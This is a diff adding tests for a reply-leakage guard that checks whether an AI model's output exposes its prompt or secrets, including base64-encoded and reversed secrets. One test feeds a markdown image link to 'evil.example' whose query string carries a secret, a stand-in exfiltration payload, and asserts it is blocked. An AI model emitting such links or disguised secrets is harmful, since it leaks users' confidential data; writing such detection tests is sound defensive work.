@@ -61,6 +61,52 @@ def test_nothing_is_cleared_at_a_glance_that_the_judge_would_withhold(value: str
         assert asyncio.run(_slowly(protection, value)) == value
 
 
+fillers = st.sampled_from(
+    ["", "Sure! ", "The door is open until ten; ", "a\\nb ", "see c:/x ", "\u00e9t\u00e9 ", "so be it "]
+)
+texts = st.lists(
+    st.builds(lambda lead, piece: lead + piece, fillers, st.one_of(pieces, secrets)), min_size=1, max_size=4
+)
+
+
+async def _verdict(text: str, *, cuts: bool) -> tuple[bool, int, bool]:
+    """Whether a reply with this text is blocked, how much of it is cleared, and whether anything was found in it."""
+    judge = ReplyJudge(TEXTS.for_request("t", [PROMPT], []), Leakage(stream="exact", action="block"), lambda text: "")
+    if cuts:
+        for char in text:
+            await judge.feed("c", char)
+    else:
+        await judge.feed("c", text, last=True)
+    await judge.finish()
+    return judge.blocked, 0 if judge.blocked else judge.cleared("c"), bool(judge.verdict.findings)
+
+
+@given(texts.map("".join))
+def test_a_whole_text_is_judged_as_it_is_character_by_character(text: str) -> None:
+    assert asyncio.run(_verdict(text, cuts=False)) == asyncio.run(_verdict(text, cuts=True))
+
+
+def test_ordinary_whole_texts_are_cleared_at_a_glance() -> None:
+    protection = TEXTS.for_request("t", [PROMPT], [])
+    assert protection.clears_text(
+        "You may ask the baker at six; he does not say who made the bread, but be kind to him."
+    )
+
+
+def test_a_run_of_the_prompt_or_a_secret_in_a_whole_text_is_not_cleared_at_a_glance() -> None:
+    protection = TEXTS.for_request("t", [PROMPT], [])
+    told = base64.b64encode(" ".join(WORDS[:12]).encode()).decode()
+    texts = [f"It is {SECRET}, he said.", "Well: " + ", ".join(WORDS[2:11]), f"Here: {told} .", f"x {SECRET[::-1]}"]
+    assert not any(protection.clears_text(text) for text in texts)
+
+
+async def test_an_address_with_one_slash_is_looked_at_in_a_value() -> None:
+    protection = TEXTS.for_request("t", ["You are Ada."], ["the code of the safe is four nine two two six"])
+    judge = ReplyJudge(protection, Leakage(stream="exact", exfiltration="block"), lambda text: "")
+    await judge.whole("reply/id", "![a](https:/evil.example/?q=the-code-of-the-safe-is-four-nine-two-two-six)")
+    assert judge.blocked
+
+
 def test_the_ids_and_constants_of_ordinary_replies_are_cleared_at_a_glance() -> None:
     protection = TEXTS.for_request("t", [PROMPT], [])
     ordinary = [
